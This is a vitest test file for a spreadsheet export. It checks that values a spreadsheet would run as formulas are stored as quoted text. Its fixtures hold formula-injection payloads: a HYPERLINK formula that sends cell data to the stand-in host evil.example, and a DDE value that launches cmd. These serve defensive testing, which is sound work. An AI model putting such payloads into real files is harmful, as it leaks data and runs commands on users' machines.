import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import type { TargetTable } from '@/lib/domain/table';
import { fixtureSection, TABLE_1 } from './fixtures';
import { IN_MEMORY_TABLES, renderXlsx } from './xlsx';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';

function hostile(): TargetTable {
  const t = structuredClone(TABLE_1);
  t.name = '@SUM(1+1)*cmd|\' /C calc\'!A0';
  t.indicators[0]!.description = FORMULA;
  t.indicators[1]!.value = '-5';
  t.indicators[2]!.basis = '+1+1';
  return t;
}

/** Each cell's text (in-memory shared strings or streamed inline strings) → whether its xf has quotePrefix. */
async function quotedCells(buf: Buffer, sheet: number): Promise<Map<string, boolean>> {
  const zip = await JSZip.loadAsync(buf);
  const stylesXml = await zip.file('xl/styles.xml')!.async('string');
  const cellXfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(stylesXml)![1]!;
  const xfs = [...cellXfs.matchAll(/<xf\b[^>]*>/g)].map((m) => m[0].includes('quotePrefix="1"'));
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const sheetXml = await zip.file(`xl/worksheets/sheet${sheet}.xml`)!.async('string');
  const styleOf = new Map([...sheetXml.matchAll(/<c r="([A-Z]+\d+)"[^>]*?\bs="(\d+)"/g)].map((m) => [m[1]!, Number(m[2])]));
  const out = new Map<string, boolean>();
  wb.worksheets[sheet - 1]!.eachRow((row) =>
    row.eachCell((cell) => {
      if (typeof cell.value === 'string') out.set(cell.value, xfs[styleOf.get(cell.address) ?? 0] ?? false);
    }),
  );
  return out;
}

describe('XLSX cells that a spreadsheet would run as formulas', () => {
  for (const [how, count] of [['in memory', 1], ['streamed', IN_MEMORY_TABLES + 1]] as const) {
    it(`are marked as text (quote prefix) with their text unchanged, ${how}`, async () => {
      const tables = Array.from({ length: count }, (_, i) => (i === 0 ? hostile() : { ...structuredClone(TABLE_1), code: `X${i}` }));
      const cells = await quotedCells(await renderXlsx(fixtureSection(tables)), 1);
      expect(cells.get(FORMULA)).toBe(true);
      expect(cells.get('+1+1')).toBe(true);
      expect(cells.get(hostile().name)).toBe(true);
      // A plain negative number and ordinary text keep the ordinary style.
      expect(cells.get('-5')).toBe(false);
      expect(cells.get('产出指标')).toBe(false);
    });
  }
});
